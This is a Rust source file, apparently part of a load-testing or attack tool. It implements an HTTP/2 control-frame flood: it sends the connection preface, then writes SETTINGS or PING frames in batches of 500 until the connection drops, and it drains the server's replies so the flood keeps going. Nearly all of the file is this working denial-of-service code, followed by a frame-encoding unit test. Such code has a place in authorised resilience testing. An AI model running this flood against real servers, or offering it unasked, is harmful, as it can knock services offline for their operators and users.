//! Floods of HTTP/2 frames that a server answers and libraries do not count.

use crate::attackers::Counts;
use crate::attacks::Clients;
use load::client::Target;
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::Ordering::Relaxed;
use std::thread;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const SETTINGS: u8 = 4;
pub const HEADERS: u8 = 1;
pub const WINDOW_UPDATE: u8 = 8;
const PING: u8 = 6;
/// Frames in one piece.
const PIECE: usize = 500;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()];
    [head.concat().as_slice(), payload].concat()
}

/// SETTINGS_INITIAL_WINDOW_SIZE
pub fn window(size: u32) -> Vec<u8> {
    [&[0, 4], size.to_be_bytes().as_slice()].concat()
}

/// Over one connection, until that ends.
pub fn flood(clients: Clients, target: &Target, counts: &Counts) -> io::Result<()> {
    let mut connection = TcpStream::connect(target.address)?;
    connection.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())?;
    let mut answers = connection.try_clone()?;
    // What comes back is taken, or the server would stop reading.
    let reader = thread::spawn(move || {
        let mut buffer = vec![0; 1 << 16];
        while answers.read(&mut buffer).is_ok_and(|length| length > 0) {}
    });
    let one = match clients {
        Clients::Settings => frame(SETTINGS, 0, 0, &window(65_535)),
        _ => frame(PING, 0, 0, b"12345678"),
    };
    let piece = one.repeat(PIECE);
    while connection.write_all(&piece).is_ok() {
        counts.sent.fetch_add(PIECE as u64, Relaxed);
    }
    let _ = reader.join();
    Err(io::ErrorKind::ConnectionReset.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_as_rfc_9113_has_it() {
        assert_eq!(frame(SETTINGS, 1, 0, &window(1)), [0, 0, 6, 4, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 1]);
        assert_eq!(frame(WINDOW_UPDATE, 0, 258, &[0, 0, 0, 1])[..9], [0, 0, 4, 8, 0, 0, 0, 1, 2]);
    }
}
